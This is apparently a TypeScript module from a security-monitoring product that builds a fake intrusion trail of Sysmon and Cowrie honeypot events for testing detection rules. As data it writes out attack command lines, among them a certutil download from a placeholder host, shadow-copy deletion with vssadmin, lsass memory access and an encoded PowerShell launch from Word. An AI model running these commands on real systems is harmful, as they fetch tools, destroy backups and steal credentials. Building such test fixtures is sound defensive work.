import { dateFrom } from '@vedette/kernel';

/** Which source a test attack is posted under. */
export const TEST_ATTACK_SOURCE = 'test-attack';

/**
 * A short trail of an intrusion as the sensors would tell it: Sysmon of a workstation (its flat EventData, as Winlogbeat
 * or NXLog ship it), Sysmon for Linux of a web server, and a Cowrie honeypot. Nothing is run and nothing in it would do
 * harm if it were: addresses are of the documentation ranges (RFC 5737), names are of example domains (RFC 2606), and
 * the encoded command says `Write-Output 'Vedette test attack'`. At least three rules of the starter pack fire on it.
 * @param now milliseconds since the epoch; the trail ends there and takes 70 seconds.
 */
export function testAttack(now: number): Record<string, unknown>[] {
  const at = (secondsAgo: number): Date => dateFrom(now - secondsAgo * 1_000);
  return [
    cowrie(at(70), 'cowrie.login.failed', { username: 'root', password: 'password', message: 'login attempt [root/password] failed' }),
    cowrie(at(66), 'cowrie.login.success', { username: 'root', password: '123456', message: 'login attempt [root/123456] succeeded' }),
    linuxProcess(at(50), '/usr/bin/whoami', 'whoami', '/usr/sbin/apache2'),
    windowsProcess(at(40), `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`, `powershell.exe -NoProfile -EncodedCommand ${HARMLESS}`, WORD),
    windowsProcess(at(30), `${SYSTEM}certutil.exe`, 'certutil.exe -urlcache -split -f http://203.0.113.10/tool.txt C:\\Users\\Public\\tool.txt', `${SYSTEM}cmd.exe`),
    sysmon(at(20), 10, {
      SourceImage: 'C:\\Users\\Public\\tool.exe',
      TargetImage: `${SYSTEM}lsass.exe`,
      GrantedAccess: '0x1010',
      CallTrace: `${SYSTEM}ntdll.dll+9d4c4|UNKNOWN(00000000)`,
      SourceUser: USER,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
    windowsProcess(at(10), `${SYSTEM}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet', `${SYSTEM}cmd.exe`),
    windowsProcess(at(0), `${SYSTEM}whoami.exe`, 'whoami.exe /all', `${SYSTEM}inetsrv\\w3wp.exe`),
  ];
}

const SYSTEM = 'C:\\Windows\\System32\\';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const USER = 'EXAMPLE\\test.user';
const HARMLESS = Buffer.from("Write-Output 'Vedette test attack'", 'utf16le').toString('base64');

/** Sysmon writes UTC without a zone: `2026-11-20 09:14:02.114`. */
const utcTime = (at: Date): string => at.toISOString().replace('T', ' ').slice(0, 23);
const nameOf = (path: string): string => path.split(/[\\/]/).at(-1) ?? path;

function sysmon(at: Date, eventId: number, fields: Record<string, unknown>): Record<string, unknown> {
  return {
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    EventID: eventId,
    Computer: 'test-attack.example.com',
    TimeCreated: at.toISOString(),
    UtcTime: utcTime(at),
    ...fields,
  };
}

function windowsProcess(at: Date, image: string, commandLine: string, parent: string): Record<string, unknown> {
  return sysmon(at, 1, {
    ProcessId: 4312,
    Image: image,
    OriginalFileName: nameOf(image),
    CommandLine: commandLine,
    CurrentDirectory: SYSTEM,
    User: USER,
    IntegrityLevel: 'Medium',
    ParentProcessId: 2280,
    ParentImage: parent,
    ParentCommandLine: `"${parent}"`,
  });
}

function linuxProcess(at: Date, image: string, commandLine: string, parent: string): Record<string, unknown> {
  return {
    Channel: 'Linux-Sysmon/Operational',
    Provider_Name: 'Linux-Sysmon',
    EventID: 1,
    Computer: 'test-attack-web.example.com',
    UtcTime: utcTime(at),
    ProcessId: 3911,
    Image: image,
    CommandLine: commandLine,
    CurrentDirectory: '/var/www',
    User: 'www-data',
    ParentImage: parent,
    ParentCommandLine: parent,
  };
}

function cowrie(at: Date, eventid: string, fields: Record<string, unknown>): Record<string, unknown> {
  return {
    eventid,
    timestamp: at.toISOString(),
    src_ip: '198.51.100.77',
    src_port: 51_112,
    dst_port: 22,
    protocol: 'ssh',
    session: 'a1b2c3d4e5f6',
    sensor: 'test-attack-pot',
    ...fields,
  };
}
